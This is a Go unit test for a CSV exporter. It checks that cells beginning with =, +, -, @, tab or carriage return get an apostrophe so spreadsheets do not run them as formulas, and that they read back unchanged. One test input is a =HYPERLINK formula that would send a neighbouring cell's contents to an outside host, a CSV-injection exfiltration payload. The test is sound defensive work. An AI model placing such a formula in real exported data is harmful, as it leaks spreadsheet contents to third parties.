package directory

import (
	"bytes"
	"cmp"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// TestCSVCellsCannotBeFormulas writes cells a spreadsheet would run as a
// formula: in the file each starts with an apostrophe, and reading the
// file gives every entry back as it was.
func TestCSVCellsCannotBeFormulas(t *testing.T) {
	in := []Entry{
		{Name: `=HYPERLINK("https://example.org/?x="&A2,"click")`, Institution: "+SUM(1,2)", Discipline: "-2+3", Phone: "+49 30 1234", Email: "@evil"},
		{Name: "Petra Albers", Institution: "'=already quoted", Discipline: "''+twice", Phone: "-", Email: "'@x"},
		{Name: "O'Brien", Institution: "'Brien", Discipline: "a=b", Phone: "110", Email: "x@example.org"},
	}
	for _, f := range []CSVFormat{{}, GermanCSV} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, in, f); err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
		cr.Comma = cmp.Or(f.Comma, ',')
		rows, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%q: a spreadsheet reads this cell as a formula", cell)
				}
			}
		}
		if got := rows[1][0]; got != `'=HYPERLINK("https://example.org/?x="&A2,"click")` {
			t.Errorf("first cell written as %q", got)
		}
		if got := rows[3][0]; got != "O'Brien" {
			t.Errorf("an apostrophe inside a name was changed: %q", got)
		}
		out, err := ReadCSV(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(out, in) {
			t.Errorf("round trip (%+v):\n got  %q\n want %q", f, out, in)
		}
	}
}

func TestCSVCellEscapeTable(t *testing.T) {
	for _, c := range []struct{ cell, written string }{
		{"=1+1", "'=1+1"},
		{"+49 30 1234", "'+49 30 1234"},
		{"-", "'-"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=x", "''=x"},
		{"''=x", "'''=x"},
		{"'Brien", "'Brien"},
		{"'", "'"},
		{"", ""},
		{"Jugendamt", "Jugendamt"},
		{"a=b", "a=b"},
	} {
		if got := escapeCell(c.cell); got != c.written {
			t.Errorf("escapeCell(%q) = %q, want %q", c.cell, got, c.written)
		}
		if got := unescapeCell(c.written); got != c.cell {
			t.Errorf("unescapeCell(%q) = %q, want %q", c.written, got, c.cell)
		}
	}
}
